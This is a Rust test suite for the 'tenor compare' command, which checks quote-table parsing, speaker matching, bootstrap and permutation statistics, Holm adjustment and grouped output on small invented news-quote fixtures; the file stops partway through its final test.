//! Comparing speakers from a quotes.csv: reading the table, matching names, the statistics of each pair
//! and the two renderings of the result.

use std::fs;

use tenor::Error;
use tenor::compare::{
    CompareOptions, Comparison, PAdjustment, QuoteRow, QuoteTable, ScoreColumn, Verdict, compare,
    find_speaker, similarity,
};
use tenor::stats::{self, Bootstrap, Permutation, Rng};

/// A quotes.csv as `tenor score` writes it, plus source and date columns after the fixed ones.
const QUOTES_CSV: &str = "\
article_id,quote_id,kind,start,end,speaker,speaker_mention,cue,framing,topics,topic_source,text,sentiment,positive,negative,neutral,cooperation,warmth,threat,assertiveness,irony,evidence,source,date
a1,a1:1,direct,10,52,Sergeï Lavrov,Lavrov,said,neutral,ukraine;sanctions,quote,\"We will respond, firmly.\",-0.4200,0.0000,0.3000,0.7000,-0.6000,-0.5000,0.7000,0.8000,0.0000,respond:-1.00,Wire,2024-03-01
a1,a1:2,direct,80,120,Boris Johnson,Johnson,told,neutral,ukraine,quote,\"We stand with our friends.\",0.5100,0.4000,0.0000,0.6000,0.7000,0.6000,0.0000,0.6000,0.0000,friends:2.00,Wire,2024-03-01
a2,a2:1,direct,5,40,Sergei Lavrov,Mr Lavrov,warned,distance,sanctions,quote,\"This will end badly.\",-0.6000,0.0000,0.4000,0.6000,-0.7000,-0.6000,0.8000,0.7000,0.1000,badly:-2.00,Daily,2024-03-02
a2,a2:2,mixed,60,95,Boris Johnson,He,said,neutral,sanctions,context,\"Sanctions are working.\",0.3000,0.3000,0.0000,0.7000,,0.2000,0.1000,0.5000,0.0000,working:1.00,Daily,2024-03-02
a3,a3:1,direct,0,30,Mike Johnson,Johnson,said,neutral,,,\"Not today.\",-0.1000,0.0000,0.1000,0.9000,0.0000,0.0000,0.0000,0.4000,0.0000,,Post,2024-03-03
";

fn fixture_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("quotes.csv"), QUOTES_CSV).unwrap();
    dir
}

/// Rows for the speakers `(name, warmth values)`, every quote on the topics `topics`.
fn rows_with_warmth(speakers: &[(&str, &[f64])], topics: &[&str]) -> Vec<QuoteRow> {
    let mut rows = Vec::new();
    for (name, values) in speakers {
        for (i, &warmth) in values.iter().enumerate() {
            let mut scores = [Some(0.0); 9];
            scores[ScoreColumn::Warmth as usize] = Some(warmth);
            let topics = topics.iter().map(|t| t.to_string()).collect();
            rows.push(QuoteRow::new("a", format!("a:{i}"), *name, topics, scores));
        }
    }
    rows
}

/// `n` values spread evenly-ish around `centre` by a seeded generator.
fn noisy(rng: &mut Rng, n: usize, centre: f64, spread: f64) -> Vec<f64> {
    (0..n)
        .map(|_| centre + spread * (rng.below(2001) as f64 / 1000.0 - 1.0))
        .collect()
}

fn warmth_only() -> CompareOptions {
    CompareOptions {
        scores: vec![ScoreColumn::Warmth],
        ..CompareOptions::default()
    }
}

#[test]
fn reads_a_score_output_folder_with_extra_columns() {
    let dir = fixture_dir();
    let table = QuoteTable::from_path(dir.path()).unwrap();
    assert_eq!(table.path, dir.path().join("quotes.csv"));
    assert_eq!(table.extra_columns, ["source", "date"]);
    assert_eq!(table.rows.len(), 5);

    let first = &table.rows[0];
    assert_eq!(first.quote_id, "a1:1");
    assert_eq!(first.speaker, "Sergeï Lavrov");
    assert_eq!(first.speaker_key(), "sergei lavrov");
    assert_eq!(first.topics, ["ukraine", "sanctions"]);
    assert_eq!(first.score(ScoreColumn::Sentiment), Some(-0.42));
    assert_eq!(first.score(ScoreColumn::Threat), Some(0.7));
    assert_eq!(table.extra(first, "date"), Some("2024-03-01"));
    assert_eq!(table.extra(first, "title"), None);

    // A byte order mark, as spreadsheets write, does not hide the first column.
    let with_bom = format!("\u{FEFF}{QUOTES_CSV}");
    let from_bom = QuoteTable::from_reader(with_bom.as_bytes(), "q.csv".as_ref()).unwrap();
    assert_eq!(from_bom.rows[0].article_id, "a1");

    // An empty score cell is a missing score, an empty topics cell no topic.
    assert_eq!(table.rows[3].score(ScoreColumn::Cooperation), None);
    assert!(table.rows[4].topics.is_empty());
}

#[test]
fn a_bad_score_cell_is_an_error_naming_the_file_and_line() {
    let broken = QUOTES_CSV.replace("0.5100,0.4000", "high,0.4000");
    let err = QuoteTable::from_reader(broken.as_bytes(), "out/quotes.csv".as_ref()).unwrap_err();
    let shown = err.to_string();
    assert!(matches!(err, Error::Input { .. }));
    assert!(
        shown.starts_with("out/quotes.csv: line 3: sentiment \"high\""),
        "{shown}"
    );
}

#[test]
fn a_table_without_scores_is_refused() {
    let csv = "article_id,speaker,topics\na1,Ana,trade\n";
    let err = QuoteTable::from_reader(csv.as_bytes(), "q.csv".as_ref()).unwrap_err();
    assert!(err.to_string().contains("no `sentiment` column"), "{err}");
    let missing = QuoteTable::from_path("no/such/folder/quotes.csv".as_ref()).unwrap_err();
    assert!(matches!(missing, Error::Io { .. }));
}

#[test]
fn speakers_match_by_folded_name_or_unique_surname() {
    let table = QuoteTable::from_path(fixture_dir().path()).unwrap();
    let lavrov = find_speaker(&table.rows, "LAVROV").unwrap();
    // Two spellings fold alike; the tie goes to the first in byte order.
    assert_eq!(lavrov.key, "sergei lavrov");
    assert_eq!(lavrov.quotes, 2);
    assert_eq!(lavrov.name, "Sergei Lavrov");
    assert_eq!(
        find_speaker(&table.rows, "boris johnson").unwrap().quotes,
        2
    );

    let err = find_speaker(&table.rows, "Johnson")
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("Boris Johnson (2 quotes), Mike Johnson (1 quotes)"),
        "{err}"
    );
    let err = find_speaker(&table.rows, "Putin").unwrap_err().to_string();
    assert!(
        err.contains("no speaker in the table is called \"Putin\""),
        "{err}"
    );
    // A surname match is on whole words: "son" is not the end of "Johnson".
    assert!(find_speaker(&table.rows, "son").is_err());
}

#[test]
fn clearly_separated_speakers_get_a_verdict_and_an_interval_around_the_true_gap() {
    let mut rng = Rng::new(11);
    let warm = noisy(&mut rng, 60, 0.5, 0.2);
    let cold = noisy(&mut rng, 45, -0.3, 0.2);
    let rows = rows_with_warmth(&[("Ana Petrova", &warm), ("Ivan Horvat", &cold)], &[]);
    let comparison = compare(&rows, &["Horvat", "Petrova"], None, &warmth_only()).unwrap();
    assert_eq!(comparison.rows.len(), 1);
    let row = &comparison.rows[0];
    assert_eq!((row.n_a, row.n_b), (45, 60));
    let true_gap = stats::mean(&cold).unwrap() - stats::mean(&warm).unwrap();
    assert!((row.diff.unwrap() - true_gap).abs() < 1e-12);
    let interval = row.diff_interval.unwrap();
    assert!(
        interval.contains(-0.8) && interval.contains(true_gap),
        "{interval:?}"
    );
    assert!(interval.excludes_zero() && interval.high - interval.low < 0.2);
    assert_eq!(row.cliffs_delta, Some(-1.0));
    assert!(row.cohens_d.unwrap() < -5.0);
    assert!(row.p_value.unwrap() < 0.001);
    assert_eq!(row.p_adjustment, PAdjustment::Unadjusted);
    assert_eq!(row.verdict, Verdict::Lower);
    assert_eq!(
        row.verdict_text(),
        "Ivan Horvat lower than Ana Petrova (interval excludes 0)"
    );
}

#[test]
fn speakers_drawn_from_the_same_values_show_no_clear_difference() {
    let mut rng = Rng::new(5);
    let a = noisy(&mut rng, 40, 0.1, 0.5);
    let b = noisy(&mut rng, 40, 0.1, 0.5);
    let rows = rows_with_warmth(&[("Ana Petrova", &a), ("Ivan Horvat", &b)], &[]);
    let row = &compare(&rows, &["Petrova", "Horvat"], None, &warmth_only())
        .unwrap()
        .rows[0];
    assert!(row.diff_interval.unwrap().contains(0.0));
    assert!(row.p_value.unwrap() > 0.05);
    assert_eq!(row.verdict, Verdict::NoClearDifference);
    assert_eq!(
        row.verdict_text(),
        "no clear difference (interval includes 0)"
    );
}

#[test]
fn permutation_p_value_is_one_for_identical_samples_and_small_when_separated() {
    let mut rng = Rng::new(9);
    let sample = noisy(&mut rng, 30, 0.0, 1.0);
    let p_same = stats::permutation_p_value(&sample, &sample, &Permutation::default()).unwrap();
    assert_eq!(p_same, 1.0);
    let shifted: Vec<f64> = sample.iter().map(|x| x + 2.5).collect();
    let p_apart = stats::permutation_p_value(&sample, &shifted, &Permutation::default()).unwrap();
    // No relabelling beats the observed one: the +1 correction leaves 1 / 10,001.
    assert_eq!(p_apart, 1.0 / 10_001.0);
}

#[test]
fn bootstrap_of_a_difference_covers_the_true_difference_of_separated_samples() {
    let mut rng = Rng::new(21);
    let a = noisy(&mut rng, 200, 1.0, 0.3);
    let b = noisy(&mut rng, 150, 0.0, 0.3);
    let interval = stats::bootstrap_mean_difference(&a, &b, &Bootstrap::default()).unwrap();
    assert!(interval.contains(1.0), "{interval:?}");
    assert!(interval.excludes_zero());
    let of_a = stats::bootstrap_mean(&a, &Bootstrap::default()).unwrap();
    assert!(
        of_a.contains(1.0) && of_a.low > 0.9 && of_a.high < 1.1,
        "{of_a:?}"
    );
}

#[test]
fn the_same_seed_gives_identical_output_and_another_seed_does_not() {
    let mut rng = Rng::new(1);
    let (a, b, c) = (
        noisy(&mut rng, 30, 0.2, 0.4),
        noisy(&mut rng, 25, 0.0, 0.4),
        noisy(&mut rng, 20, -0.1, 0.4),
    );
    let rows = rows_with_warmth(&[("A One", &a), ("B Two", &b), ("C Three", &c)], &["trade"]);
    let run = |seed| {
        let options = CompareOptions {
            seed,
            per_topic: true,
            ..warmth_only()
        };
        let comparison = compare(&rows, &["One", "Two", "Three"], None, &options).unwrap();
        let mut csv = Vec::new();
        comparison.write_csv(&mut csv).unwrap();
        (comparison, String::from_utf8(csv).unwrap())
    };
    let (first, first_csv) = run(7);
    let (second, second_csv) = run(7);
    assert_eq!(first, second);
    assert_eq!(first_csv, second_csv);
    let (other, _) = run(8);
    assert_ne!(first.rows[0].diff_interval, other.rows[0].diff_interval);
    // Means do not depend on the seed.
    assert_eq!(first.rows[0].diff, other.rows[0].diff);
}

#[test]
fn more_than_two_speakers_get_holm_adjusted_p_values() {
    let mut rng = Rng::new(3);
    let (a, b, c) = (
        noisy(&mut rng, 30, 0.3, 0.4),
        noisy(&mut rng, 30, 0.0, 0.4),
        noisy(&mut rng, 30, 0.05, 0.4),
    );
    let rows = rows_with_warmth(&[("A One", &a), ("B Two", &b), ("C Three", &c)], &[]);
    let names = ["One", "Two", "Three"];
    let adjusted = compare(&rows, &names, None, &warmth_only()).unwrap();
    let pairs: Vec<(&str, &str)> = adjusted
        .rows
        .iter()
        .map(|r| (r.speaker_a.as_str(), r.speaker_b.as_str()))
        .collect();
    assert_eq!(
        pairs,
        [
            ("A One", "B Two"),
            ("A One", "C Three"),
            ("B Two", "C Three")
        ]
    );
    // Each pair's raw p-value is what a two-speaker comparison of that pair gives.
    let raw: Vec<f64> = [["One", "Two"], ["One", "Three"], ["Two", "Three"]]
        .iter()
        .map(|pair| {
            compare(&rows, pair, None, &warmth_only()).unwrap().rows[0]
                .p_value
                .unwrap()
        })
        .collect();
    let holm = stats::holm(&raw);
    for (row, expected) in adjusted.rows.iter().zip(&holm) {
        assert_eq!(row.p_adjustment, PAdjustment::Holm);
        assert_eq!(row.p_value, Some(*expected));
    }
    assert!(holm.iter().zip(&raw).all(|(h, r)| h >= r));
}

#[test]
fn a_speaker_with_one_quote_has_too_few_quotes() {
    let rows = rows_with_warmth(
        &[("Ana Petrova", &[0.5, 0.6, 0.7]), ("Ivan Horvat", &[-0.9])],
        &[],
    );
    let row = &compare(&rows, &["Petrova", "Horvat"], None, &warmth_only())
        .unwrap()
        .rows[0];
    assert_eq!(row.verdict, Verdict::TooFewQuotes);
    assert_eq!(
        row.verdict_text(),
        "too few quotes (Ana Petrova: 3, Ivan Horvat: 1)"
    );
    assert_eq!(row.mean_b, Some(-0.9));
    assert_eq!(
        (row.diff_interval, row.p_value, row.cohens_d),
        (None, None, None)
    );
}

#[test]
fn per_topic_rows_follow_the_overall_row_and_a_topic_can_be_chosen() {
    let table = QuoteTable::from_path(fixture_dir().path()).unwrap();
    let options = CompareOptions {
        scores: vec![ScoreColumn::Sentiment, ScoreColumn::Cooperation],
        per_topic: true,
        ..CompareOptions::default()
    };
    let comparison = compare(&table.rows, &["Lavrov", "Boris Johnson"], None, &options).unwrap();
    let keys: Vec<(ScoreColumn, Option<&str>, usize, usize)> = comparison
        .rows
        .iter()
        .map(|r| (r.score, r.topic.as_deref(), r.n_a, r.n_b))
        .collect();
    assert_eq!(
        keys,
        [
            (ScoreColumn::Sentiment, None, 2, 2),
            (ScoreColumn::Sentiment, Some("sanctions"), 2, 1),
            (ScoreColumn::Sentiment, Some("ukraine"), 1, 1),
            // Johnson's second quote has no cooperation score.
            (ScoreColumn::Cooperation, None, 2, 1),
            (ScoreColumn::Cooperation, Some("sanctions"), 2, 0),
            (ScoreColumn::Cooperation, Some("ukraine"), 1, 1),
        ]
    );
    // Two quotes each, all of Lavrov's below Johnson's: the bootstrap interval excludes 0, but only 6
    // relabellings exist and 2 of them are as extreme, so this is not reported as a difference.
    let overall = &comparison.rows[0];
    assert!(overall.diff_interval.unwrap().excludes_zero());
    assert!((overall.p_value.unwrap() - 1.0 / 3.0).abs() < 0.02);
    assert_eq!(overall.verdict, Verdict::Borderline);
    assert!(
        overall
            .verdict_text()
            .starts_with("no clear difference (interval excludes 0 but p = 0.3")
    );
    assert_eq!(comparison.rows[4].mean_b, None);
    assert_eq!(comparison.rows[4].verdict, Verdict::TooFewQuotes);

    let on_topic = compare(
        &table.rows,
        &["Lavrov", "Boris Johnson"],
        Some("SANCTIONS"),
        &options,
    )
    .unwrap();
    assert!(
        on_topic
            .rows
            .iter()
            .all(|r| r.topic.as_deref() == Some("sanctions"))
    );
    let err = compare(
        &table.rows,
        &["Lavrov", "Boris Johnson"],
        Some("trade"),
        &options,
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("topics in the table: sanctions, ukraine"),
        "{err}"
    );
}

#[test]
fn csv_has_the_fixed_leading_columns_and_four_decimals() {
    let rows = rows_with_warmth(
        &[
            ("Ana Petrova", &[0.5, 0.6, 0.7, 0.6]),
            ("Ivan Horvat", &[-0.2, -0.1, -0.3, -0.2]),
        ],
        &[],
    );
    let comparison = compare(&rows, &["Petrova", "Horvat"], None, &warmth_only()).unwrap();
    let mut out = Vec::new();
    comparison.write_csv(&mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let mut lines = text.lines();
    assert_eq!(
        lines.next().unwrap(),
        "score,topic,speaker_a,speaker_b,n_a,n_b,mean_a,mean_b,diff,diff_ci_low,diff_ci_high,\
         cliffs_delta,cohens_d,p_value,verdict,p_adjustment"
    );
    let fields: Vec<&str> = lines.next().unwrap().split(',').collect();
    assert_eq!(
        fields[..9],
        [
            "warmth",
            "(all)",
            "Ana Petrova",
            "Ivan Horvat",
            "4",
            "4",
            "0.6000",
            "-0.2000",
            "0.8000"
        ]
    );
    assert_eq!(fields[11], "1.0000");
    assert!(
        fields[9..14]
            .iter()
            .all(|f| f.split_once('.').unwrap().1.len() == 4)
    );
    assert_eq!(
        fields[14],
        "Ana Petrova higher than Ivan Horvat (interval excludes 0)"
    );
    assert_eq!(fields[15], "none");

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("comparison.csv");
    comparison.save_csv(&path).unwrap();
    assert_eq!(fs::read_to_string(&path).unwrap(), text);
    assert!(
        comparison
            .save_csv(&dir.path().join("missing/c.csv"))
            .is_err()
    );
}

#[test]
fn the_terminal_table_lines_up_and_explains_its_methods() {
    let rows = rows_with_warmth(
        &[
            ("Ana Petrova", &[0.5, 0.6, 0.7, 0.6]),
            ("Ivan Horvat", &[-0.2, -0.1, -0.3, -0.2]),
        ],
        &[],
    );
    let shown = compare(&rows, &["Petrova", "Horvat"], None, &warmth_only())
        .unwrap()
        .to_string();
    let lines: Vec<&str> = shown.lines().collect();
    assert!(
        lines[0].starts_with("score   topic  speaker a    speaker b    n a  n b  mean a"),
        "{shown}"
    );
    assert!(
        lines[1].starts_with("------  -----  -----------"),
        "{shown}"
    );
    assert!(
        lines[2].starts_with("warmth  (all)  Ana Petrova  Ivan Horvat    4    4   0.600  -0.200")
    );
    assert!(lines[2].ends_with("Ana Petrova higher than Ivan Horvat (interval excludes 0)"));
    assert!(shown.contains("2000 resamples") && shown.contains("10000 permutations"));
    assert!(!shown.contains("Holm"));
}

#[test]
fn similarity_compares_departures_from_each_topics_usual_tone() {
    // On both topics Ana is warmer than usual and Ivan colder; Olga follows Ana.
    let mut rows = Vec::new();
    for topic in ["trade", "energy"] {
        rows.extend(rows_with_warmth(
            &[
                ("Ana Petrova", &[0.6, 0.8]),
                ("Ivan Horvat", &[-0.6, -0.8]),
                ("Olga Berg", &[0.3, 0.5]),
                ("Someone Else", &[0.0, 0.0, 0.0]),
            ],
            &[topic],
        ));
    }
    let pairs = similarity(&rows, &["Petrova", "Horvat", "Berg"], 2).unwrap();
    assert_eq!(pairs.len(), 3);
    assert_eq!(
        (pairs[0].speaker_a.as_str(), pairs[0].speaker_b.as_str()),
        ("Ana Petrova", "Ivan Horvat")
    );
    assert!(pairs[0].cosine.unwrap() < -0.99, "{}", pairs[0]);
    assert!(pairs[1].cosine.unwrap() > 0.99, "{}", pairs[1]);
    assert_eq!(pairs[0].topics_shared, 2);
    assert_eq!(
        pairs[1].to_string(),
        format!(
            "Ana Petrova ~ Olga Berg: cosine {:.3} over 2 shared topics",
            pairs[1].cosine.unwrap()
        )
    );
    // Requiring more quotes per topic than anyone has leaves nothing to compare.
    let none = similarity(&rows, &["Petrova", "Horvat"], 3).unwrap();
    assert_eq!((none[0].cosine, none[0].topics_shared), (None, 0));
}

#[test]
fn comparison_csv_columns_are_published() {
    assert_eq!(Comparison::CSV_COLUMNS[..15].last(), Some(&"verdict"));
}

/// Run with `cargo test --release --test compare -- --ignored --nocapture`: the budget is for an
/// optimised build on a shared machine.
#[test]
#[ignore]
fn ten_thousand_quotes_compare_in_well_under_a_second() {
    let mut rng = Rng::new(2024);
    let a = noisy(&mut rng, 5_000, 0.05, 0.6);
    let b = noisy(&mut rng, 5_000, 0.0, 0.6);
    let started = std::time::Instant::now();
    let interval = stats::bootstrap_mean_difference(&a, &b, &Bootstrap::default()).unwrap();
    let bootstrap = started.elapsed();
    let started = std::time::Instant::now();
    let p = stats::permutation_p_value(&a, &b, &Permutation::default()).unwrap();
    let permutation = started.elapsed();
    let started = std::time::Instant::now();
    let delta = stats::cliffs_delta(&a, &b).unwrap();
    let cliffs = started.elapsed();
    println!(
        "10,000 quotes: bootstrap (2,000) {bootstrap:?} {interval:?}, permutation (10,000) \
         {permutation:?} p={p}, Cliff's delta {cliffs:?} {delta}"
    );

    let rows = rows_with_warmth(&[("Ana Petrova", &a), ("Ivan Horvat", &b)], &["trade"]);
    let started = std::time::Instant::now();
    let comparison = compare(
        &rows,
        &["Petrova", "Horvat"],
        None,
        &CompareOptions::default(),
    )
    .unwrap();
    let all_scores = started.elapsed();
    println!("compare, 9 scores x 10,000 quotes: {all_scores:?}");
    assert_eq!(comparison.rows.len(), 9);
    assert!(bootstrap.as_secs_f64() < 0.5, "{bootstrap:?}");
}

// `tenor compare --by`, through the binary, on corpora written here. Every expected count and mean
// below is worked out by hand from the corpus, not copied from a run of the tool.

fn tenor_compare(args: &[&str], dir: &std::path::Path) -> std::process::Output {
    std::process::Command::new(env!("CARGO_BIN_EXE_tenor"))
        .arg("compare")
        .args(args)
        .args(["--ci-resamples", "200"])
        .current_dir(dir)
        .output()
        .unwrap()
}

/// The rows of a comparison CSV, each as a map from column to cell.
fn read_comparison(path: &std::path::Path) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_path(path).unwrap();
    let header = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            header
                .iter()
                .zip(record.iter())
                .map(|(column, cell)| (column.to_string(), cell.to_string()))
                .collect()
        })
        .collect()
}

/// `(group, n_a, n_b, mean_a, mean_b)` of one row of a grouped comparison.
type GroupStats = (String, usize, usize, Option<f64>, Option<f64>);

/// The [`GroupStats`] of the rows of one score, in output order.
fn group_counts(
    rows: &[std::collections::HashMap<String, String>],
    score: &str,
) -> Vec<GroupStats> {
    let number = |cell: &str| (!cell.is_empty()).then(|| cell.parse::<f64>().unwrap());
    rows.iter()
        .filter(|row| row["score"] == score)
        .map(|row| {
            (
                row["group"].clone(),
                row["n_a"].parse().unwrap(),
                row["n_b"].parse().unwrap(),
                number(&row["mean_a"]),
                number(&row["mean_b"]),
            )
        })
        .collect()
}

fn assert_close(found: Option<f64>, expected: Option<f64>, what: &str) {
    match (found, expected) {
        (Some(found), Some(expected)) => {
            assert!(
                (found - expected).abs() < 1e-4,
                "{what}: {found} != {expected}"
            )
        }
        _ => assert_eq!(found, expected, "{what}"),
    }
}

/// A `tenor score` output folder reduced to what a comparison reads: quotes.csv (warmth set, other
/// scores 0) without source or date, and articles.csv, which holds them.
fn score_folder_by_hand() -> tempfile::TempDir {
    // (article, source, date): a5 has no source and a date that is not ISO.
    let articles = [
        ("a1", "Wire", "2025-01-10"),
        ("a2", "Wire", "2025-02-03"),
        ("a3", "Daily", "2025-01-20T08:00:00Z"),
        ("a4", "Daily", "2025-02-14"),
        ("a5", "", "last spring"),
    ];
    // (article, speaker, warmth)
    let quotes = [
        ("a1", "Ana Petrova", 0.6),
        ("a1", "Ivan Horvat", -0.2),
        ("a1", "Ana Petrova", 0.2),
        ("a2", "Ana Petrova", 0.4),
        ("a2", "Ivan Horvat", -0.4),
        ("a2", "Ivan Horvat", 0.0),
        ("a3", "Ana Petrova", 0.1),
        ("a3", "Ivan Horvat", 0.5),
        ("a4", "Ana Petrova", -0.1),
        ("a4", "Olga Berg", 0.9),
        ("a4", "Ana Petrova", 0.3),
        ("a5", "Ivan Horvat", 0.2),
    ];
    let dir = tempfile::tempdir().unwrap();
    let mut articles_csv = String::from("article_id,title,source,date,quotes\n");
    for (id, source, date) in articles {
        articles_csv += &format!("{id},A title,{source},{date},2\n");
    }
    fs::write(dir.path().join("articles.csv"), articles_csv).unwrap();
    let mut quotes_csv = String::from(
        "article_id,quote_id,speaker,topics,sentiment,positive,negative,neutral,cooperation,\
         warmth,threat,assertiveness,irony\n",
    );
    for (i, (article, speaker, warmth)) in quotes.into_iter().enumerate() {
        quotes_csv +=
            &format!("{article},{article}:{i},{speaker},harbour,0,0,0,1,0,{warmth},0,0,0\n");
    }
    fs::write(dir.path().join("quotes.csv"), quotes_csv).unwrap();
    dir
}

#[test]
fn compare_by_source_joins_articles_csv_and_counts_each_group() {
    let dir = score_folder_by_hand();
    let output = tenor_compare(
        &[
            ".",
            "--speaker",
            "Petrova",
            "--speaker",
            "Horvat",
            "--by",
            "source",
            "--out",
            "c.csv",
        ],
        dir.path(),
    );
    assert!(output.status.success(), "{output:?}");
    let rows = read_comparison(&dir.path().join("c.csv"));
    let header: Vec<String> = csv::Reader::from_path(dir.path().join("c.csv"))
        .unwrap()
        .headers()
        .unwrap()
        .iter()
        .map(String::from)
        .collect();
    assert_eq!(header[0], "group");
    assert_eq!(header[1..16], Comparison::CSV_COLUMNS[..15]);
    // Nine scores for each group that holds a quote of either speaker.
    assert_eq!(rows.len(), 9 * 3);
    assert_eq!(
        group_counts(&rows, "warmth")
            .into_iter()
            .map(|(group, n_a, n_b, ..)| (group, n_a, n_b))
            .collect::<Vec<_>>(),
        [
            // Daily: Ana 0.1, -0.1, 0.3; Ivan 0.5. Olga is not compared.
            ("Daily".to_string(), 3, 1),
            // Wire: Ana 0.6, 0.2, 0.4; Ivan -0.2, -0.4, 0.0.
            ("Wire".to_string(), 3, 3),
            // a5 has no source: only Ivan's 0.2. The unknown group comes last.
            ("unknown".to_string(), 0, 1),
        ]
    );
    let warmth = group_counts(&rows, "warmth");
    for ((group, _, _, mean_a, mean_b), (expected_a, expected_b)) in warmth.iter().zip([
        (Some(0.1), Some(0.5)),
        (Some(0.4), Some(-0.2)),
        (None, Some(0.2)),
    ]) {
        assert_close(*mean_a, expected_a, &format!("{group} mean_a"));
        assert_close(*mean_b, expected_b, &format!("{group} mean_b"));
    }
    let verdicts: Vec<&str> = rows
        .iter()
        .filter(|row| row["score"] == "warmth")
        .map(|row| row["verdict"].as_str())
        .collect();
    assert_eq!(
        verdicts[0],
        "too few quotes in this group (Ana Petrova: 3, Ivan Horvat: 1)"
    );
    assert_ne!(verdicts[1], "");
    assert!(!verdicts[1].starts_with("too few"), "{verdicts:?}");
    // Two speakers: one test per group and score, nothing to adjust.
    assert!(rows.iter().all(|row| row["p_adjustment"] == "none"));

    let shown = String::from_utf8(output.stdout).unwrap();
    assert!(shown.starts_with("source   score"), "{shown}");
    assert!(shown.contains("Each group (source) is compared on its own quotes only."));
}

#[test]
fn compare_by_month_cuts_dates_and_puts_unreadable_ones_in_unknown() {
    let dir = score_folder_by_hand();
    let output = tenor_compare(
        &[
            ".",
            "--speaker",
            "Petrova",
            "--speaker",
            "Horvat",
            "--by",
            "date",
            "--period",
            "month",
        ],
        dir.path(),
    );
    assert!(output.status.success(), "{output:?}");
    let output = tenor_compare(
        &[
            ".",
            "--speaker",
            "Petrova",
            "--speaker",
            "Horvat",
            "--by",
            "date",
            "--out",
            "m.csv",
        ],
        dir.path(),
    );
    assert!(output.status.success(), "{output:?}");
    let warmth = group_counts(&read_comparison(&dir.path().join("m.csv")), "warmth");
    let expected = [
        // January: Ana 0.6, 0.2 (a1), 0.1 (a3); Ivan -0.2 (a1), 0.5 (a3).
        ("2025-01", 3, 2, Some(0.3), Some(0.15)),
        // February: Ana 0.4 (a2), -0.1, 0.3 (a4); Ivan -0.4, 0.0 (a2).
        ("2025-02", 3, 2, Some(0.2), Some(-0.2)),
        ("unknown", 0, 1, None, Some(0.2)),
    ];
    assert_eq!(warmth.len(), expected.len(), "{warmth:?}");
    for (found, expected) in warmth.iter().zip(expected) {
        assert_eq!(
            (found.0.as_str(), found.1, found.2),
            (expected.0, expected.1, expected.2)
        );
        assert_close(found.3, expected.3, expected.0);
        assert_close(found.4, expected.4, expected.0);
    }
    let shown = String::from_utf8(output.stdout).unwrap();
    assert!(shown.starts_with("date by month  score"), "{shown}");

    // By year, everything readable is one group.
    let output = tenor_compare(
        &[
            ".",
            "--speaker",
            "Petrova",
            "--speaker",
            "Horvat",
            "--by",
            "date",
            "--period",
            "year",
            "--out",
            "y.csv",
        ],
        dir.path(),
    );
    assert!(output.status.success(), "{output:?}");
    let warmth = group_counts(&read_comparison(&dir.path().join("y.csv")), "warmth");
    assert_eq!(
        warmth
            .iter()
            .map(|g| (g.0.as_str(), g.1, g.2))
            .collect::<Vec<_>>(),
        [("2025", 6, 4), ("unknown", 0, 1)]
    );
}

#[test]
fn compare_by_three_speakers_adjusts_within_each_group_and_says_so() {
    let dir = score_folder_by_hand();
    let output = tenor_compare(
        &[
            ".",
            "--speaker",
            "Petrova",
            "--speaker",
            "Horvat",
            "--speaker",
            "Berg",
            "--by",
            "source",
            "--out",
            "three.csv",
        ],
        dir.path(),
    );
    assert!(output.status.success(), "{output:?}");
    let rows = read_comparison(&dir.path().join("three.csv"));
    // Olga Berg speaks only in Daily (a4); groups and pairs: 3 groups x 9 scores x 3 pairs.
    assert_eq!(rows.len(), 3 * 9 * 3);
    assert!(rows.iter().all(|row| row["p_adjustment"] == "holm"));
    let berg: Vec<(&str, &str)> = rows
        .iter()
        .filter(|row| row["score"] == "warmth" && row["speaker_b"] == "Olga Berg")
        .map(|row| (row["group"].as_str(), row["n_b"].as_str()))
        .collect();
    assert_eq!(
        berg,
        [
            ("Daily", "1"),
            ("Daily", "1"),
            ("Wire", "0"),
            ("Wire", "0"),
            ("unknown", "0"),
            ("unknown", "0")
        ]
    );
    let shown = String::from_utf8(output.stdout).unwrap();
    assert!(
        shown.contains("Holm-adjusted across the pairs of each group, score and topic"),
        "{shown}"
    );
}

#[test]
fn compare_by_a_field_the_tables_do_not_keep_says_to_compare_from_inputs() {
    let dir = score_folder_by_hand();
    let output = tenor_compare(
        &[
            ".",
            "--speaker",
            "Petrova",
            "--speaker",
            "Horvat",
            "--by",
            "desk",
        ],
        dir.path(),
    );
    assert!(!output.status.success());
    let message = String::from_utf8(output.stderr).unwrap();
    assert!(
        message.contains("no") && message.contains("`desk` column"),
        "{message}"
    );
    assert!(
        message.contains("tenor compare INPUT... --by desk"),
        "{message}"
    );
}

/// Five articles, invented speakers, two sources, two months and a `desk` field that only the input
/// records carry. Every quote is of the form `"...," said Name.`, one per paragraph.
const HARBOUR_JSONL: &str = r#"{"id":"n1","title":"Port fees","source":"Northern Post","date":"2025-03-04","desk":"economy","text":"\"We will lower the port fees and welcome every partner,\" said Orla Brennick.\n\n\"This plan is a reckless disaster for the harbour,\" said Tomas Vell."}
{"id":"n2","title":"Port fees again","source":"Northern Post","date":"2025-03-18","desk":"economy","text":"\"The agreement is good news for families,\" said Orla Brennick.\n\n\"They have betrayed the dockers and we will fight them,\" said Tomas Vell."}
{"id":"n3","title":"Harbour vote","source":"Northern Post","date":"2025-04-02","desk":"politics","text":"\"I am grateful for the generous support of our neighbours,\" said Orla Brennick.\n\n\"The vote was a shameful failure,\" said Tomas Vell."}
{"id":"c1","title":"Harbour row","source":"Coastal Herald","date":"2025-03-21","desk":"politics","text":"\"We are delighted with the progress,\" said Orla Brennick.\n\n\"Their threats will end badly for everyone,\" said Tomas Vell.\n\n\"Nobody trusts this hostile plan,\" said Tomas Vell."}
{"id":"c2","title":"Harbour deal","source":"Coastal Herald","date":"2025-04-15","desk":"economy","text":"\"Together we can build a stronger port,\" said Orla Brennick.\n\n\"This is a terrible deal,\" said Tomas Vell."}
"#;

#[test]
fn compare_by_from_inputs_groups_by_any_record_field() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("harbour.jsonl"), HARBOUR_JSONL).unwrap();
    // The per-quote scores, to average by hand-known groups.
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_tenor"))
